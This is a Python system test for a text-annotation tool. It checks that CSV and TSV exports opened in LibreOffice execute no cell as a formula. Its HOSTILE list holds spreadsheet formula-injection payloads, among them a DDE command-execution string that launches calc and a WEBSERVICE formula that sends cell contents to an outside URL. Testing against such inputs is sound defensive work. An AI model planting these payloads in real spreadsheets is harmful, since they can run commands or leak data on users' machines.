"""What LibreOffice makes of the CSV and of the other tables."""

from __future__ import annotations

import subprocess
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET

import pytest

from reader.model.annotation import note_change
from reader.model.labeling import label_change
from reader.model.sanitize import guard_cell, unguard_cell
from reader.project import Project
from reader.project.exporting import export
from reader.project.importing import import_paths

if TYPE_CHECKING:
    from pathlib import Path

    from reader.model.annotation import SentenceRef
    from reader.model.codebook import Layer

pytestmark = pytest.mark.system

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org","click")',
    '=WEBSERVICE("http://example.org/"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    '=DDE("soffice";"x";"y")',
    "'=1+1",
    "''quoted",
    "＝1+1",
)


def _cells(path: Path) -> tuple[list[list[str]], int]:
    """The text of every cell of a flat OpenDocument sheet, and the number of formulas in it."""
    rows, formulas = [], 0
    for row in ET.parse(path).iter(f"{TABLE}table-row"):
        cells = []
        for cell in row.iter(f"{TABLE}table-cell"):
            formulas += cell.get(f"{TABLE}formula") is not None
            words = "\n".join("".join(part.itertext()) for part in cell.iter(f"{TEXT}p"))
            cells += [words] * min(int(cell.get(f"{TABLE}number-columns-repeated", "1")), 40)
        rows.append(cells)
    return rows, formulas


def _hostile_project(tmp_path: Path) -> Project:
    """A project in which every sentence, note and name would be run."""
    article = "A headline\n\n" + "\n\n".join(HOSTILE) + "\n"
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "hostile.txt").write_text(article, "utf-8")
    project = Project.open(tmp_path / "annotations" / "annotations.db", "@anna", create=True)
    import_paths(project.database, [tmp_path / "in"])
    target = project.targets.add("=Mara Quill")
    stance = project.codebook.layers[0]
    stored = project.articles.get(1)
    assert stored is not None
    reading = project.articles.annotations_on(stored)
    for sentence in stored.sentences:
        ref = reading.ref(sentence.position)
        note = HOSTILE[sentence.position % len(HOSTILE)]
        project.annotations.record([label_change(ref, stance, stance.labels[0], target), note_change(ref, note)])
    return project


def _opened(table: Path, separator: str) -> tuple[list[list[str]], int]:
    """The cells that LibreOffice has of a table, and how many of them it runs."""
    folder = table.parent
    subprocess.run(
        ["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{folder}/profile",
         f"--infilter=CSV:{ord(separator)},34,76,1", "--convert-to", "fods", "--outdir", str(folder), str(table)],
        check=True, capture_output=True, timeout=170,
    )  # fmt: skip
    return _cells(table.with_suffix(".fods"))


def test_libreoffice_runs_no_cell_of_an_export_and_reads_every_one_back(tmp_path: Path) -> None:
    project = _hostile_project(tmp_path)
    stored = project.articles.get(1)
    assert stored is not None
    table = tmp_path / "out.csv"
    rows = export(project.database, table)
    project.close()
    cells, formulas = _opened(table, ",")
    assert formulas == 0
    header = cells[0]
    body = [row for row in cells[1:] if row and row[0]]
    assert len(body) == rows
    words, notes = header.index("sentence"), header.index("note")
    for row in body:
        position = int(row[header.index("sentence_index")])
        sentence = stored.sentences[position]
        expected = stored.text[sentence.start : sentence.end]
        assert row[words] == guard_cell(expected)
        assert unguard_cell(guard_cell(expected)) == expected
        assert row[notes] == guard_cell(HOSTILE[position % len(HOSTILE)])
        assert row[header.index("target")] in ("", guard_cell("=Mara Quill"))
        assert row[header.index("annotator")] == guard_cell("@anna")


@pytest.mark.parametrize("form", ["semeval", "checkthat"])
def test_libreoffice_runs_no_cell_of_a_table_for_a_shared_task(tmp_path: Path, form: str) -> None:
    project = _hostile_project(tmp_path)
    stored = project.articles.get(1)
    assert stored is not None
    changes = [label_change(ref, layer, layer.labels[0]) for ref, layer in _claims(project)]
    project.annotations.record(changes)
    table = tmp_path / "out.csv"  # LibreOffice goes by the name
    rows = export(project.database, table, form=form)
    project.close()
    cells, formulas = _opened(table, "\t")
    assert formulas == 0
    text = cells[0].index("Tweet" if form == "semeval" else "Text")
    sentences = [stored.text[each.start : each.end] for each in stored.sentences]
    assert [row[text] for row in cells[1:] if row and row[0]] == [
        guard_cell(" ".join(each.split())) for each in sentences
    ]
    assert rows == len(sentences)


def _claims(project: Project) -> list[tuple[SentenceRef, Layer]]:
    stored = project.articles.get(1)
    assert stored is not None
    reading = project.articles.annotations_on(stored)
    return [(reading.ref(sentence.position), project.codebook.layers[1]) for sentence in stored.sentences]
